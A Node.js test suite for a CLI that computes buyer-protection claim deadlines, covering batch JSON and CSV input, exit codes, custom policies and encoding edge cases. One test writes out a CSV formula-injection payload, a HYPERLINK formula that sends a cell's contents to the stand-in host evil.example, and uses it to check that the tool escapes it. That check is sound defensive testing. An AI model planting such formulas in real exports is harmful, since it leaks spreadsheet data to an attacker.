// The command line as an agent or a nightly job uses it: help, exit codes,
// batch, CSV, and a caller's own policy (with its calendar).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { cli, root } from './lib.mjs';

const run = (args, input) => {
  const r = spawnSync(cli, args, { input, encoding: 'utf8', maxBuffer: 1 << 28 });
  return { code: r.status, out: r.stdout, err: r.stderr };
};
const sample = readFileSync(path.join(root, 'tests/samples/claim-api-sample.json'), 'utf8');

test('--help for the tool and each command', () => {
  assert.match(run(['--help']).out, /usage: assurecalc <command>/);
  assert.match(run(['evaluate', '--help']).out, /usage: assurecalc evaluate/);
  assert.match(run(['batch', '--help']).out, /JSON Lines[\s\S]*--csv/);
  assert.match(run(['programs', '--help']).out, /usage: assurecalc programs/);
  const none = run([]);
  assert.equal(none.code, 2);
  assert.match(none.err, /usage/);
  assert.equal(run(['frobnicate']).code, 2);
});

test('evaluate: exit 0 with a result, exit 1 with the errors still printed', () => {
  const ok = run(['evaluate', '-'], sample);
  assert.equal(ok.code, 0);
  const r = JSON.parse(ok.out);
  assert.equal(r.claims[0].days_left, 22);
  const bad = run(['evaluate', '--compact', '-'], '{"as_of": "soon"}');
  assert.equal(bad.code, 1);
  const e = JSON.parse(bad.out);
  assert.equal(e.ok, false);
  assert.deepEqual(
    e.errors.map((x) => x.path),
    ['/as_of', '/order/created_on', '/order/currency', '/order/total'],
  );
  assert.equal(run(['evaluate', '/no/such/file.json']).code, 2);
});

test('programs lists every version with its period and sourced rules', () => {
  const p = JSON.parse(run(['programs']).out);
  assert.deepEqual(
    p.map((v) => [v.id, v.effective_from, v.effective_to]),
    [
      ['alibaba-ta-2015', '2015-01-01', '2017-12-08'],
      ['alibaba-ta-2017', '2017-12-08', null],
      ['aliexpress-bp-2015', '2015-01-01', '2020-01-01'],
      ['aliexpress-bp-2020', '2020-01-01', null],
      ['amazon-atoz-2014', '2014-01-01', '2020-07-27'],
      ['amazon-atoz-2020', '2020-07-27', null],
      ['ebay-mbg-2019', '2019-01-01', null],
      ['paypal-bp-2010', '2010-01-01', '2014-11-18'],
      ['paypal-bp-2014', '2014-11-18', null],
    ],
  );
  for (const v of p) for (const r of v.rules) assert.ok(r.source && r.source.title, r.id);
});

test('batch: one result per line, in order, blank lines skipped, an over-long line refused', () => {
  const one = JSON.stringify(JSON.parse(sample));
  const long = '{"x":"' + 'a'.repeat((1 << 20) + 10) + '"}';
  const r = run(['batch'], [one, '', 'not json', long, one].join('\n') + '\n');
  assert.equal(r.code, 1);
  const lines = r.out
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l));
  assert.deepEqual(
    lines.map((l) => l.ok),
    [true, false, false, true],
  );
  assert.equal(lines[1].errors[0].code, 'INVALID_JSON');
  assert.equal(lines[2].errors[0].code, 'INPUT_TOO_LARGE');
});

test('batch --jobs: the same answers, in input order, on any number of threads, from a file or a pipe', async () => {
  const { claims } = await import('../tools/gen-claims.mjs');
  const lines = [...claims(2000, 11)].map((c) => (typeof c === 'string' ? c : JSON.stringify(c)));
  // Blank lines, a CRLF line, two lines over 1 MiB, a claim without as_of; no newline at the end.
  lines.splice(100, 0, '', '   ', lines[5] + '\r', ' '.repeat((1 << 20) + 1) + '{}', '{"order":{"id":"' + 'x'.repeat(1 << 20) + '"}}');
  lines.splice(900, 0, '{"order":{"created_on":"2025-03-02","currency":"USD","total":1000}}');
  const input = lines.join('\n');
  const dir = mkdtempSync(path.join(tmpdir(), 'ac-jobs-'));
  const file = path.join(dir, 'claims.jsonl');
  writeFileSync(file, input);
  const args = ['batch', '--as-of', '2025-05-01T00:00:00Z'];
  const one = run([...args, '--jobs', '1', file]);
  assert.equal(one.code, 1);
  assert.equal(one.out.split('\n').length - 1, lines.length - 2);
  assert.match(one.err, /as_of missing in \d+ claims/);
  for (const variant of [[file], ['--jobs', '2', file], ['--jobs', '7', file], ['--jobs', '3', '-']]) {
    const r = run([...args, ...variant], variant.includes('-') ? input : undefined);
    assert.equal(r.out, one.out, variant.join(' '));
    assert.equal(r.code, one.code);
    assert.equal(r.err, one.err);
  }
  // Under a memory limit, more threads than it has room for: fewer are used, the same answers.
  const tight = spawnSync('bash', ['-c', `ulimit -v 100000; "${cli}" batch --as-of 2025-05-01T00:00:00Z --jobs 200 "${file}"`], {
    encoding: 'utf8',
    maxBuffer: 1 << 28,
  });
  assert.equal(tight.stdout, one.out);
  assert.equal(tight.status, 1);
  for (const bad of ['0', '257', 'x', '']) {
    const r = run(['batch', '--jobs', bad, file]);
    assert.equal(r.code, 2, bad);
    assert.match(r.err, /--jobs needs a number of threads from 1 to 256/);
  }
});

test('batch --csv: a header, a row per order and kind, bad rows with their line number', () => {
  const template = run(['--csv-template']).out;
  const broken = template + 'PO-9,2025-04-20T09:30:00Z,,2025-02-30,USD,100\n';
  const r = run(['batch', '--csv', '-'], broken);
  assert.equal(r.code, 1);
  const rows = r.out.trim().split('\n');
  assert.match(rows[0], /^line,order_id,program,as_of,kind,status,refund_max/);
  assert.match(rows[1], /^2,PO-1001,alibaba-ta-2017,2025-04-20T17:30:00\+08:00,quality,open,300000,USD,cash,/);
  assert.match(rows[2], /^3,PO-9,,,,error,.*INVALID_DATE \/order\/created_on/);
  const unknown = run(['batch', '--csv', '-'], 'created_on,currency,total,colour\n2025-01-01,USD,1,red\n');
  assert.equal(unknown.code, 2);
  assert.match(unknown.err, /unknown column "colour"/);
});

test("a caller's own policy and calendar (a peer program) next to the built-in ones", () => {
  const claim = JSON.stringify({
    program: 'peer-test',
    as_of: '2025-06-10T12:00:00Z',
    order: { created_on: '2025-05-01', currency: 'GBP', total: 4599 },
    payments: [{ on: '2025-05-01', amount: 4599, method: 'card', to: 'platform' }],
    shipment: { expected_delivery_by: '2025-05-12' },
    issue: { kind: 'not_received' },
  });
  const extra = [
    '--calendar',
    path.join(root, 'tests/policies/weekdays-calendar.json'),
    '--policy',
    path.join(root, 'tests/policies/peer-test-2024.json'),
  ];
  const r = run(['evaluate', '--compact', ...extra, '-'], claim);
  assert.equal(r.code, 0, r.err);
  const res = JSON.parse(r.out);
  assert.equal(res.program.id, 'peer-test-2024');
  assert.equal(res.claims[0].closes_at, '2025-06-11T23:59:59+00:00');
  // Without the calendar the policy is refused, with the reason and its place.
  const noCal = run(['evaluate', '--policy', path.join(root, 'tests/policies/peer-test-2024.json'), '-'], claim);
  assert.equal(noCal.code, 2);
  assert.match(noCal.err, /\/calendar: names no known calendar: WEEKDAYS/);
  const dir = mkdtempSync(path.join(tmpdir(), 'assurecalc-policy-'));
  const bad = JSON.parse(readFileSync(path.join(root, 'tests/policies/peer-test-2024.json'), 'utf8'));
  bad.kinds.quality.closes = { add_weeks: 4, to: 'shipment.delivered_on' };
  writeFileSync(path.join(dir, 'bad.json'), JSON.stringify(bad));
  const refused = run(['evaluate', '--calendar', extra[1], '--policy', path.join(dir, 'bad.json'), '-'], claim);
  assert.equal(refused.code, 2);
  assert.match(refused.err, /\/kinds\/quality\/closes: has no known operator/);
});

// Raw bytes out, so that a result that is not UTF-8 shows as one.
const runBytes = (args, input) => {
  const r = spawnSync(cli, args, { input, maxBuffer: 1 << 28 });
  const utf8 = new TextDecoder('utf-8', { fatal: true });
  return { code: r.status, signal: r.signal, out: utf8.decode(r.stdout), err: utf8.decode(r.stderr) };
};

test('names cut at 60 bytes inside a UTF-8 character: valid JSON out, no abort', () => {
  for (const wide of ['é', '€', '😀']) {
    const name = 'a'.repeat(59) + wide;
    const dup = sample.replace('{', `{"${name}": 1, "${name}": 2,`);
    const r = runBytes(['evaluate', '-'], dup);
    assert.equal(r.code, 1, r.err);
    const e = JSON.parse(r.out).errors;
    assert.deepEqual(
      e.map((x) => x.code),
      ['INVALID_JSON'],
    );
    assert.match(e[0].message, new RegExp(`^The member "a{59}" appears more than once`));

    const claim = JSON.parse(sample);
    claim.issue = { kind: 'quantity_short', missing_units: { ['S'.repeat(59) + wide]: 3 } };
    const s = runBytes(['evaluate', '--compact', '-'], JSON.stringify(claim));
    assert.equal(s.code, 1, s.err);
    assert.match(JSON.parse(s.out).errors[0].message, /^SKU "S{59}" in \/issue\/missing_units/);

    const named = { ...JSON.parse(sample), program: 'p'.repeat(59) + wide };
    const p = runBytes(['evaluate', '-'], JSON.stringify(named));
    assert.equal(p.code, 1, p.err);
    assert.equal(JSON.parse(p.out).errors[0].code, 'UNKNOWN_PROGRAM');

    const col = runBytes(['batch', '--csv', '-'], `created_on,currency,total,${'c'.repeat(59)}${wide}\n2025-01-01,USD,1,red\n`);
    assert.equal(col.code, 2);
    assert.match(col.err, new RegExp(`unknown column "c{59}";`));
  }
});

test('batch --csv: a cell that is not UTF-8 is answered, not an abort', () => {
  const csv = Buffer.concat([
    Buffer.from('order_id,as_of,created_on,currency,total,incoterm\nPO-1,2025-04-20T09:30:00Z,2025-03-02,USD,100,CI'),
    Buffer.from([0xc3]),
    Buffer.from('\n'),
  ]);
  const r = spawnSync(cli, ['batch', '--csv', '-'], { input: csv });
  assert.equal(r.signal, null);
  assert.equal(r.status, 1, r.stderr.toString());
  assert.match(r.stdout.toString(), /\n2,PO-1,,,,error,.*\/order\/incoterm/);
});

test('batch --csv: order ids that start like a formula are neutralised', () => {
  const header = 'order_id,as_of,created_on,currency,total\n';
  const ids = [
    ['"-1+HYPERLINK(""http://evil.example/?""&A1,""click"")"', '"\'-1+HYPERLINK(""http://evil.example/?""&A1,""click"")"'],
    ['-2-3', "'-2-3"],
    ['=1+1', "'=1+1"],
    ['-42', "'-42"],
    ['PO-7', 'PO-7'],
  ];
  const rows = ids.map(([cell]) => `${cell},2025-04-20T09:30:00Z,2025-03-02,USD,100`).join('\n');
  const r = run(['batch', '--csv', '-'], header + rows + '\n');
  const out = r.out.trim().split('\n').slice(1);
  ids.forEach(([, want], i) => {
    const line = out.find((l) => l.startsWith(`${i + 2},`));
    assert.ok(line && line.startsWith(`${i + 2},${want},alibaba-ta-2017,`), line);
  });
});

// A CSV of `rows` generated orders, as text.
function ordersCsv(rows) {
  const r = spawnSync(process.execPath, [path.join(root, 'tests/tools/claims-to-csv.mjs'), String(rows), '5'], {
    encoding: 'utf8',
    maxBuffer: 1 << 28,
  });
  assert.equal(r.status, 0, r.stderr);
  return r.stdout;
}

test('batch --csv streams: a file far larger than the memory it may use is answered row by row', () => {
  const csv = ordersCsv(2000);
  const [header, ...rows] = csv.trimEnd().split('\n');
  // About 110 MB of orders, read under a 100 MB address-space limit: held
  // whole (as before), it could not even be read.
  const dir = mkdtempSync(path.join(tmpdir(), 'assurecalc-'));
  const file = path.join(dir, 'big.csv');
  const body = rows.join('\n') + '\n';
  writeFileSync(file, header + '\n' + body.repeat(40));
  const r = spawnSync('bash', ['-c', `ulimit -v 100000; "${cli}" batch --csv "${file}" | wc -l`], { encoding: 'utf8' });
  assert.equal(r.stderr, '');
  const first = run(['batch', '--csv', '-'], csv).out.split('\n').length - 2; // result rows of one copy
  assert.equal(Number(r.stdout.trim()), 1 + first * 40);
});

test('batch --csv: a row over 1 MiB is an INPUT_TOO_LARGE row, and the rows after it are answered', () => {
  const csv = ordersCsv(2).trimEnd().split('\n');
  const huge = 'x'.repeat(1.5 * 1024 * 1024);
  const r = run(['batch', '--csv', '-'], [csv[0], csv[1], `PO-HUGE,${huge}`, csv[2], ''].join('\n'));
  const lines = r.out.trimEnd().split('\n');
  assert.equal(r.code, 1);
  assert.match(
    lines.find((l) => l.startsWith('3,')),
    /^3,,,,,error,.*INPUT_TOO_LARGE/,
  );
  assert.ok(
    lines.some((l) => l.startsWith('4,')),
    'the row after the huge one is answered',
  );
});

test('batch writes each answer as soon as it has it', async () => {
  const { spawn } = await import('node:child_process');
  for (const args of [
    ['batch', '-'],
    ['batch', '--csv', '-'],
  ]) {
    const csv = args.includes('--csv');
    const child = spawn(cli, args, { stdio: ['pipe', 'pipe', 'inherit'] });
    let out = '';
    const answered = new Promise((resolve) =>
      child.stdout.on('data', (d) => ((out += d), out.includes('\n2,') || (!csv && out.includes('\n')) ? resolve() : 0)),
    );
    // One order in, and the input left open: its answer must come out anyway.
    child.stdin.write(csv ? ordersCsv(1) : sample.replace(/\n/g, ' ') + '\n');
    await answered;
    child.stdin.end();
    await new Promise((resolve) => child.on('close', resolve));
    assert.ok(out.length > 0);
  }
});

test('batch --as-of: a claim without as_of (absent or null) is judged at the instant, once said on stderr', () => {
  const given = JSON.parse(sample);
  const without = { ...given };
  delete without.as_of;
  const lines = [
    JSON.stringify(without),
    JSON.stringify({ ...without, as_of: null }),
    JSON.stringify(given),
    JSON.stringify({ order: { created_on: '2025-03-02x' } }),
    '{"note":"}\\"as_of\\":1,{","order":' + JSON.stringify(given.order) + '}',
    '[1]',
  ];
  const input = lines.join('\n') + '\n';

  // Without the option: today's behaviour, MISSING_FIELD at /as_of, nothing on stderr.
  const plain = run(['batch'], input);
  assert.equal(plain.err, '');
  const before = plain.out
    .trimEnd()
    .split('\n')
    .map((l) => JSON.parse(l));
  for (const i of [0, 1, 3, 4])
    assert.ok(
      before[i].errors.some((e) => e.path === '/as_of' && e.code === 'MISSING_FIELD'),
      `line ${i + 1}`,
    );

  const at = '2025-05-01T00:00:00Z';
  const r = run(['batch', '--as-of', at], input);
  assert.equal(r.err, `assurecalc: as_of missing in 4 claims: judged as of ${at}\n`);
  const after = r.out
    .trimEnd()
    .split('\n')
    .map((l) => JSON.parse(l));
  assert.equal(after.length, lines.length);
  // The same answers as claims that held the instant themselves.
  const same = run(['batch'], JSON.stringify({ ...without, as_of: at }) + '\n').out;
  assert.equal(JSON.stringify(after[0]) + '\n', same);
  assert.deepEqual(after[1], after[0]);
  assert.equal(after[0].as_of, '2025-05-01T08:00:00+08:00');
  // A claim that has its own as_of keeps it, byte for byte.
  assert.equal(r.out.split('\n')[2], plain.out.split('\n')[2]);
  // Other errors remain; the one of /as_of is gone.
  assert.deepEqual(
    after[3].errors.map((e) => e.path),
    before[3].errors.map((e) => e.path).filter((p) => p !== '/as_of'),
  );
  assert.equal(after[4].ok, true);
  assert.equal(after[4].as_of, '2025-05-01T08:00:00+08:00');
  assert.equal(after[5].errors[0].code, 'INVALID_TYPE');

  // Every claim had one: no word on stderr.
  assert.equal(run(['batch', '--as-of', at], lines[2] + '\n').err, '');
  // `now` is this moment, in UTC.
  const now = run(['batch', '--as-of', 'now'], lines[0] + '\n');
  const m = /judged as of (\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ)\n$/.exec(now.err);
  assert.ok(m, now.err);
  assert.ok(Math.abs(Date.parse(m[1]) - Date.now()) < 120e3);
  // Not an instant: a usage error before anything is read.
  for (const bad of ['tomorrow', '2025-13-01T00:00:00Z', '2025-05-01', 'x"y']) {
    const b = run(['batch', '--as-of', bad], input);
    assert.equal(b.code, 2, bad);
    assert.equal(b.out, '');
    assert.match(b.err, /--as-of .* is not an RFC 3339 instant/);
  }
  assert.equal(run(['batch', '--as-of'], input).code, 2);
});

test('batch --csv --as-of: rows with an empty as_of cell, or no such column, get the instant', () => {
  const at = '2025-05-01T00:00:00Z';
  const noColumn = 'order_id,created_on,currency,total\nA,2025-03-02,USD,100\nB,2025-03-02,USD,200\n';
  const r = run(['batch', '--csv', '--as-of', at, '-'], noColumn);
  assert.equal(r.err, `assurecalc: as_of missing in 2 claims: judged as of ${at}\n`);
  const rows = r.out.trimEnd().split('\n').slice(1);
  assert.ok(rows.length >= 2);
  for (const row of rows) assert.match(row, /^[23],[AB],alibaba-ta-2017,2025-05-01T08:00:00\+08:00,/);
  assert.ok(!r.out.includes(',error,'));
  // The same rows as a file that says as_of itself.
  const own = run(
    ['batch', '--csv', '-'],
    'order_id,created_on,currency,total,as_of\nA,2025-03-02,USD,100,' + at + '\nB,2025-03-02,USD,200,' + at + '\n',
  );
  assert.equal(r.out, own.out);
  // A cell that is given is kept; an empty one is filled.
  const mixed = run(
    ['batch', '--csv', '--as-of', at, '-'],
    'order_id,as_of,created_on,currency,total\nA,2025-04-01T00:00:00Z,2025-03-02,USD,100\nB,,2025-03-02,USD,200\n',
  );
  assert.match(mixed.err, /missing in 1 claim: /);
  assert.ok(mixed.out.includes('\n2,A,alibaba-ta-2017,2025-04-01T08:00:00+08:00,'));
  assert.ok(mixed.out.includes('\n3,B,alibaba-ta-2017,2025-05-01T08:00:00+08:00,'));
  // Without the option: an error row naming /as_of.
  assert.match(run(['batch', '--csv', '-'], noColumn).out, /\n2,A,.*error.*\/as_of/);
});
